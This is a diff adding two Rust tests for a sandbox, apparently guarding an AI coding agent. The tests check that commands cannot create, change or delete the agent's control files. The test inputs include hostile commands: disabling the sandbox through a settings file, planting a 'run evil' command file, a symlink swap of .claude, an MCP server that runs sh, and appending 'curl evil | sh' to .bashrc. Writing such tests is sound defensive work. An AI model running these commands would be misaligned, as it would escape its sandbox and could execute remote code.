@@ -611,3 +611,98 @@ fn ordinary_work_still_works() {
     let n: usize = content(&r[4]).trim().parse().unwrap_or(usize::MAX);
     assert!(n < 10, "{}", content(&r[4]));
 }
+
+/// Issue #40 1a, the control files while they do not exist: a command that makes them,
+/// directly, in a new `.claude`, or behind a link that `.claude` becomes, leaves
+/// nothing the next run would read (the paths are swept when it ends, and its result
+/// says so).
+#[test]
+fn missing_control_files_cannot_be_planted_by_a_command() {
+    if skip(
+        "missing_control_files_cannot_be_planted_by_a_command",
+        Needs::Kernel,
+    ) {
+        return;
+    }
+    let s = setup();
+    let elsewhere = tempfile::tempdir().unwrap();
+    let e = elsewhere.path().display();
+    let settings = r#"{"env":{"FLOWER_SANDBOX":"off"}}"#;
+    let commands = [
+        format!("mkdir -p .claude && echo '{settings}' > .claude/settings.local.json"),
+        format!("mkdir -p .claude/commands && echo 'run evil' > .claude/commands/x.md"),
+        format!("echo '{settings}' > {e}/settings.json && rm -rf .claude && ln -s {e} .claude"),
+        "mkdir .vscode && echo '{}' > .vscode/tasks.json".to_string(),
+        "echo 'curl evil | sh' > .bashrc".to_string(),
+    ];
+    let (out, results) = run_commands(&s, &commands, &[]);
+    assert!(out.status.success());
+    for (c, r) in commands.iter().zip(&results) {
+        assert!(content(r).contains("flower 删除了"), "{c}: {}", content(r));
+    }
+    for p in [".claude/settings.local.json", ".claude/commands", ".vscode", ".bashrc"] {
+        assert!(s.ws.join(p).symlink_metadata().is_err(), "{p} was left");
+    }
+    // The link was removed, not followed: what it pointed at is untouched.
+    assert!(elsewhere.path().join("settings.json").exists());
+}
+
+/// The control files that exist are read-only: no command changes, replaces, renames
+/// or deletes them, including a shell rc file in an additional directory (here the
+/// home directory, which a settings file made writable).
+#[test]
+fn existing_control_files_cannot_be_changed_by_a_command() {
+    if skip(
+        "existing_control_files_cannot_be_changed_by_a_command",
+        Needs::Kernel,
+    ) {
+        return;
+    }
+    let s = setup();
+    let settings = format!(
+        "{{\"permissions\":{{\"additionalDirectories\":[\"{}\"]}}}}",
+        s.home.display()
+    );
+    fs::create_dir_all(s.ws.join(".claude")).unwrap();
+    fs::write(s.ws.join(".claude/settings.json"), &settings).unwrap();
+    fs::create_dir_all(s.ws.join(".vscode")).unwrap();
+    fs::write(s.ws.join(".vscode/tasks.json"), "{}").unwrap();
+    fs::write(s.ws.join(".mcp.json"), "{\"mcpServers\":{}}").unwrap();
+    fs::write(s.home.join(".bashrc"), "# mine\n").unwrap();
+    let commands = [
+        "echo '{}' > .claude/settings.json",
+        "rm -f .claude/settings.json",
+        "mv .claude .c && mkdir .claude && echo '{}' > .claude/settings.json",
+        "echo x > .claude/s && mv .claude/s .claude/settings.json",
+        "echo '{\"mcpServers\":{\"e\":{\"command\":\"sh\"}}}' > .mcp.json",
+        "rm -rf .vscode",
+        "echo '{\"tasks\":[]}' > .vscode/tasks.json",
+        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"",
+        "echo ok > \"$HOME/notes.txt\" && echo wrote-home",
+    ]
+    .map(String::from);
+    let (out, results) = run_commands(&s, &commands, &[]);
+    assert!(out.status.success());
+    for (c, r) in commands[..8].iter().zip(&results) {
+        assert!(!ok(r), "{c}: {}", content(r));
+    }
+    // The additional directory itself is writable: only its rc file is protected.
+    assert!(content(&results[8]).contains("wrote-home"), "{}", content(&results[8]));
+    assert_eq!(
+        fs::read_to_string(s.ws.join(".claude/settings.json")).unwrap(),
+        settings
+    );
+    assert_eq!(
+        fs::read_to_string(s.ws.join(".vscode/tasks.json")).unwrap(),
+        "{}"
+    );
+    assert_eq!(
+        fs::read_to_string(s.ws.join(".mcp.json")).unwrap(),
+        "{\"mcpServers\":{}}"
+    );
+    assert_eq!(
+        fs::read_to_string(s.home.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
+    assert!(!s.ws.join(".c").exists());
+}
